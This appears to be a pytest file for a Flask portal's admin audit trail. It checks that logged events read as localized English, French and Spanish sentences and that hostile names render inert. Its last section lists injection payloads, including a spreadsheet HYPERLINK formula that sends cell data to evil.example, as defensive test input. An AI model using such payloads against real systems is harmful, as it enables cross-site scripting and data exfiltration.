"""The audit trail tells each event as a sentence in the page's language, its names inert."""

import pytest
from flask_babel import force_locale, gettext
from markupsafe import escape

from portal import audit
from portal.models import AuditEvent, User
from portal.vocabulary import AUDIT_ACTIONS

from . import entries, sentences
from portal_testing import HOSTILE, PASSWORD_ALONE, create_staff_account, tags
from portal_testing.admin import add_org

pytestmark = pytest.mark.app_config(**PASSWORD_ALONE)

EVERYTHING = "/admin/audit?category=all"
REF = "AR-2026-0042"

# (action, who acted, account acted on, reference, detail as the code writes it) and the
# sentence an English page shows. Accounts by name: see the `cast` fixture.
STORIES = [
    ("account.created", "admin", "target", None, "role=reviewer",
     "admin@example.org created the account of y@example.org (reviewer)"),
    ("account.created", None, "target", None, "role=admin",
     "The portal created the account of y@example.org (administrator)"),
    ("account.created", "admin", "member", None, "role=org_member organization=andean-watch",
     "admin@example.org created the account of member@example.org, a member of Andean Watch"),
    ("account.deactivated", "admin", "target", None, "",
     "admin@example.org deactivated the account of y@example.org"),
    ("account.reactivated", "admin", "target", None, "",
     "admin@example.org reactivated the account of y@example.org"),
    ("account.reset", "admin", "target", None, "",
     "admin@example.org reset the password and two-step sign-in of y@example.org"),
    ("account.password_changed", "target", "target", None, "",
     "y@example.org changed their password"),
    ("account.password_changed", "admin", "target", None, "",
     "admin@example.org changed the password of y@example.org"),
    ("account.totp_enrolled", "target", "target", None, "",
     "y@example.org set up two-step sign-in"),
    ("account.recovery_code_used", "target", "target", None, "",
     "y@example.org used a recovery code to sign in"),
    ("account.settings_changed", "target", "target", None, "",
     "y@example.org changed their language or notification settings"),
    ("account.moved", "admin", "member", None, "from=andean-watch to=coastal-guard",
     "admin@example.org moved member@example.org from Andean Watch to Coastal Guard"),
    ("account.moved", "admin", "member", None, "from= to=coastal-guard",
     "admin@example.org moved member@example.org to Coastal Guard"),
    ("sign_in.succeeded", "target", "target", None, "", "y@example.org signed in"),
    ("sign_in.failed", None, "target", None, "password",
     "Failed sign-in to the account of y@example.org: wrong password"),
    ("sign_in.failed", None, None, None, "password",
     "Failed sign-in with an address that has no account"),
    ("sign_in.second_factor_failed", None, "target", None, "",
     "Wrong sign-in code for the account of y@example.org"),
    ("sign_in.second_factor_blocked", None, "target", None, "",
     "Sign-in to the account of y@example.org stopped after too many wrong codes; "
     "administrators were told"),
    ("sign_out", "target", "target", None, "", "y@example.org signed out"),
    ("request.viewed", "reviewer", None, REF, "",
     f"reviewer@example.org opened the request {REF}"),
    ("request.transition", "reviewer", None, REF, "action=start_review",
     f"reviewer@example.org started the review of {REF}"),
    ("request.transition", "reviewer", None, REF, "action=ask_info",
     f"reviewer@example.org asked the requester of {REF} for information"),
    ("request.transition", "reviewer", None, REF, "action=approve",
     f"reviewer@example.org approved {REF}"),
    ("request.transition", "reviewer", None, REF, "action=take_back",
     f"reviewer@example.org took the offers for {REF} back"),
    ("request.transition", "reviewer", None, REF, "action=reject",
     f"reviewer@example.org rejected {REF}"),
    ("request.transition", "reviewer", None, REF, "action=close",
     f"reviewer@example.org closed {REF} as completed"),
    ("request.transition", "reviewer", None, REF, "action=reopen",
     f"reviewer@example.org reopened {REF} for a new round of offers"),
    ("request.transition", "reviewer", None, REF, "action=somersault",
     f"reviewer@example.org changed the state of {REF}"),
    ("request.transition", "member", None, REF, "organization=andean-watch to=active",
     f"member@example.org (Andean Watch) marked {REF} as under way"),
    ("request.transition", "member", None, REF, "organization=andean-watch to=completed",
     f"member@example.org (Andean Watch) marked {REF} as completed"),
    ("request.message", "reviewer", None, REF, "",
     f"reviewer@example.org wrote to the requester of {REF}"),
    ("request.note", "reviewer", None, REF, "",
     f"reviewer@example.org added an internal note to {REF}"),
    ("request.risk_corrected", "reviewer", None, REF, "",
     f"reviewer@example.org added to or corrected the risk answers of {REF}"),
    ("request.sharing_narrowed", None, None, REF, "",
     f"The requester of {REF} took back some of what may be shared"),
    ("request.offered", "reviewer", None, REF, "organizations=andean-watch,coastal-guard",
     f"reviewer@example.org offered {REF} to Andean Watch and Coastal Guard"),
    ("request.offered", "reviewer", None, REF, "organizations=andean-watch",
     f"reviewer@example.org offered {REF} to Andean Watch"),
    ("offer.accepted", "member", None, REF, "",
     f"member@example.org (Andean Watch) accepted the offer for {REF}"),
    ("offer.declined", "member", None, REF, "",
     f"member@example.org (Andean Watch) declined the offer for {REF}: "
     "the reason is kept with the offer"),
    ("offer.viewed", "member", None, REF, "",
     f"member@example.org (Andean Watch) opened the offer for {REF}"),
    ("offer.progress", "member", None, REF, "",
     f"member@example.org (Andean Watch) sent a progress update on {REF}"),
    ("offer.message", "member", None, REF, "",
     f"member@example.org (Andean Watch) wrote to the requester of {REF}"),
    ("check_in.rhythm_set", "member", None, REF, "organization=andean-watch hours=48",
     f"member@example.org (Andean Watch) set how often they check in on {REF}"),
    ("check_in.recorded", "member", None, REF, "organization=andean-watch status=well",
     f"member@example.org (Andean Watch) recorded a check-in on {REF}"),
    ("check_in.incident", "member", None, REF, "organization=andean-watch status=incident",
     f"member@example.org (Andean Watch) reported an incident on {REF}: reviewers were told"),
    ("check_in.missed", None, None, REF, "organization=andean-watch",
     f"A check-in on {REF} was missed: reviewers were told"),
    ("request.attention_handled", "reviewer", None, REF, "attention=incident",
     f"reviewer@example.org marked the check-in alert on {REF} as handled"),
    ("offer.expired", None, None, REF, "",
     f"The offers for {REF} expired without an answer"),
    ("audit.viewed", "admin", None, None, "", "admin@example.org opened the audit trail"),
    ("audit.exported", "admin", None, None, "category=all",
     "admin@example.org exported the audit trail as CSV"),
    ("keys.granted", "reviewer", "target", None, "group=network",
     "reviewer@example.org gave y@example.org access to the network's key"),
    ("keys.granted", "member", "target", None, "organization=andean-watch",
     "member@example.org gave y@example.org access to the key of Andean Watch"),
    ("keys.claimed", "target", "target", None, "group=network",
     "y@example.org received the network's key at sign-in"),
    ("keys.claimed", "member", "member", None, "organization=andean-watch",
     "member@example.org received the key of Andean Watch at sign-in"),
    ("keys.escrow_granted", None, "target", None, "group=network",
     "The escrow key gave y@example.org the network's key"),
    ("keys.escrow_granted", None, "member", None, "organization=andean-watch",
     "The escrow key gave member@example.org the key of Andean Watch"),
    ("keys.rotated", "admin", None, None, "group=network",
     "The network's key was replaced after a member left"),
    ("keys.rotated", None, None, None, "organization=andean-watch",
     "The key of Andean Watch was replaced after a member left"),
    ("organization.created", "admin", None, None, "key=andean-watch",
     "admin@example.org added the organization Andean Watch"),
    ("organization.updated", "admin", None, None, "key=andean-watch",
     "admin@example.org changed the organization Andean Watch"),
    ("organization.archived", "admin", None, None, "key=andean-watch offers_taken_back=0",
     "admin@example.org archived the organization Andean Watch"),
    ("organization.archived", "admin", None, None, "key=andean-watch offers_taken_back=1",
     "admin@example.org archived the organization Andean Watch and took back 1 open offer"),
    ("organization.archived", "admin", None, None, "key=andean-watch offers_taken_back=3",
     "admin@example.org archived the organization Andean Watch and took back 3 open offers"),
    ("organization.restored", "admin", None, None, "key=andean-watch",
     "admin@example.org restored the organization Andean Watch"),
    ("request.overdue", None, None, REF, "deadline=first_response",
     f"{REF} is past its response time: reviewers were told"),
    ("request.escalated", None, None, REF, "deadline=first_response",
     f"{REF} is still past its response time: administrators were told"),
    ("notice.failed", None, "target", None, "kind=new_request attempts=8 error=refused",
     "A notification to y@example.org could not be sent and was given up"),
    ("notice.failed", None, None, None, "kind=requester_news attempts=8 error=refused",
     "A notification could not be sent and was given up"),
    ("notice.retried", "admin", None, None, "",
     "admin@example.org sent a notification that had failed again"),
    ("job.failed", None, None, None, "job=purge error=OperationalError",
     "The background job purge failed (OperationalError)"),
]  # fmt: skip


@pytest.fixture
def cast(app, admin):
    """The accounts the stories name; Andean Watch and Coastal Guard."""
    andean = add_org(app, "andean-watch", name="Andean Watch")
    add_org(app, "coastal-guard", name="Coastal Guard")
    with app.app_context():
        return {
            "admin": User.get_by_id(admin.user.id),
            "reviewer": create_staff_account("reviewer@example.org", "reviewer"),
            "member": create_staff_account("member@example.org", "org_member", organization=andean),
            "target": create_staff_account("y@example.org", "reviewer"),
            None: None,
        }


def tell(app, cast, action, who, target, reference, detail):
    """Record one story's event, as the code would, and nothing else after it."""
    with app.app_context():
        AuditEvent.delete().execute()
        AuditEvent.create(
            action=action,
            user=cast[who],
            target_user=cast[target],
            reference=reference,
            detail=detail,
        )


def only_sentence(admin, lang="en"):
    """The oldest sentence of the trail (the event a story recorded; the page's own
    `audit.viewed` events come after it)."""
    return sentences(admin.get(f"{EVERYTHING}&lang={lang}"))[-1]


def test_each_event_reads_as_a_sentence(app, admin, cast):
    # One set-up for every story (accounts cost a password hash each); each story is told
    # alone, and every story that reads wrong is listed.
    wrong = []
    for action, who, target, reference, detail, expected in STORIES:
        tell(app, cast, action, who, target, reference, detail)
        told = only_sentence(admin)
        if told != expected:
            wrong.append(f"{action} {detail!r}: {told!r} != {expected!r}")

    assert wrong == []


def test_every_action_the_portal_records_has_a_story_here_and_its_own_sentence(app):
    assert {story[0] for story in STORIES} == set(AUDIT_ACTIONS)
    generic = {"%(who)s: %(action)s", "%(who)s: %(action)s, on %(reference)s"}
    with app.test_request_context():
        for action in AUDIT_ACTIONS:
            event = AuditEvent(action=action, reference=REF, detail="")
            assert audit.describe(event).singular not in generic, action


def test_an_action_the_portal_does_not_know_still_reads_as_a_sentence(app, admin, cast):
    with app.app_context():
        AuditEvent.delete().execute()
        AuditEvent.create(action="request.teleported", user=cast["reviewer"], reference=REF)
        AuditEvent.create(action="<b>odd</b>", detail="key=<i>x</i>")

    response = admin.get(EVERYTHING)

    assert response.status_code == 200
    told = sentences(response)
    assert told[-2:] == [
        "The portal: <b>odd</b>",
        f"reviewer@example.org: request.teleported, on {REF}",
    ]
    assert not [tag for tag, _ in tags(response.get_data(as_text=True)) if tag in ("b", "i")]


def test_each_entry_shows_its_time_to_the_minute(app, admin, cast):
    tell(app, cast, "sign_out", "target", "target", None, "")
    with app.app_context():
        AuditEvent.update(created_at="2026-03-01 09:05:59").execute()

    page = admin.page(EVERYTHING)

    assert entries(admin.get(EVERYTHING))[-1] == (
        "Mar 1, 2026, 9:05\u202fAM",  # CLDR: a narrow no-break space before AM
        "y@example.org signed out",
    )
    assert '<time datetime="2026-03-01T09:05:59Z">' in page


# --- other languages ----------------------------------------------------------------------


def expected_in(app, lang, message, **values):
    with app.test_request_context(), force_locale(lang):
        return gettext(message, **values)


@pytest.mark.parametrize("lang", ["fr", "es"])
def test_sentences_in_french_and_spanish_use_the_catalogue_and_keep_the_names(
    app, admin, cast, lang
):
    tell(app, cast, "request.transition", "reviewer", None, REF, "action=approve")
    response = admin.get(f"{EVERYTHING}&lang={lang}")
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert f'<html lang="{lang}"' in page
    assert sentences(response)[-1] == expected_in(
        app, lang, "%(who)s approved %(reference)s", who="reviewer@example.org", reference=REF
    )

    tell(app, cast, "offer.declined", "member", None, REF, "")
    assert only_sentence(admin, lang) == expected_in(
        app,
        lang,
        "%(who)s (%(name)s) declined the offer for %(reference)s: the reason is kept with "
        "the offer",
        who="member@example.org",
        name="Andean Watch",
        reference=REF,
    )

    tell(app, cast, "account.created", "admin", "target", None, "role=reviewer")
    with app.test_request_context(), force_locale(lang):
        role = gettext("reviewer")
    assert only_sentence(admin, lang) == expected_in(
        app,
        lang,
        "%(who)s created the account of %(target)s (%(role)s)",
        who="admin@example.org",
        target="y@example.org",
        role=role,
    )
    # Words the catalogue has already: the role inside the sentence, the portal as actor.
    assert role != "reviewer"

    tell(
        app,
        cast,
        "request.offered",
        "reviewer",
        None,
        REF,
        "organizations=andean-watch,coastal-guard",
    )
    # Babel joins a list as the language does: "A et B", "A y B".
    joined = {"fr": "Andean Watch et Coastal Guard", "es": "Andean Watch y Coastal Guard"}[lang]
    assert only_sentence(admin, lang).endswith(joined)


@pytest.mark.parametrize(
    ("lang", "time"), [("fr", "1 mars 2026, 09:05"), ("es", "1 mar 2026, 9:05")]
)
def test_the_time_is_written_as_the_language_writes_it(app, admin, cast, lang, time):
    tell(app, cast, "sign_out", "target", "target", None, "")
    with app.app_context():
        AuditEvent.update(created_at="2026-03-01 09:05:00").execute()

    assert entries(admin.get(f"{EVERYTHING}&lang={lang}"))[-1][0] == time


def test_the_portal_acting_is_named_in_the_page_language(app, admin, cast):
    tell(app, cast, "account.created", None, "target", None, "role=reviewer")

    french = only_sentence(admin, "fr")

    assert french.startswith(expected_in(app, "fr", "The portal"))
    assert "The portal" not in french


# --- hostile names ------------------------------------------------------------------------

HOSTILE_NAMES = [
    HOSTILE["script"],
    HOSTILE["img-onerror"],
    HOSTILE["htmx-sign-out"],
    HOSTILE["rtl-override-arabic"],
    HOSTILE["jinja-mixed"],
    HOSTILE["format-strings"],
    '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_names_are_shown_as_text_isolated_from_the_sentence(app, admin, name):
    organization = add_org(app, "hostile", name=name)
    with app.app_context():
        # An address the account forms would refuse, as an old or imported row could hold.
        odd = User.create(email=f"{name}@example.org", role="org_member", password_hash="x",
                          organization=organization)  # fmt: skip
        audit.record("offer.declined", user=odd, reference=REF)
        audit.record("organization.created", user=odd, detail="key=hostile")
        audit.record("account.deactivated", user=odd, target_user=odd)

    response = admin.get(EVERYTHING)

    assert response.status_code == 200
    page = response.get_data(as_text=True)
    told = sentences(response)
    deactivated, added, declined = told[:3]  # newest first
    assert declined.startswith(f"{name}@example.org ({name}) declined the offer for {REF}")
    assert added == f"{name}@example.org added the organization {name}"
    assert deactivated == f"{name}@example.org deactivated the account of {name}@example.org"
    # Nothing live: no element, attribute or expression came from the names.
    for tag, attrs in tags(page):
        assert tag not in ("img", "svg", "div") or not attrs.keys() & {"onerror", "hx-get"}
        if tag == "script":
            assert attrs.get("src")
    assert "49" not in " ".join(told)
    # Each name sits escaped in its own <bdi>: a right-to-left override inside it ends with it.
    table = page.split("<tbody>")[1].split("</tbody>")[0]
    assert table.count(f'<bdi translate="no">{escape(name)}</bdi>') == 2
    assert table.count(f'<bdi translate="no">{escape(name)}@example.org</bdi>') == 4
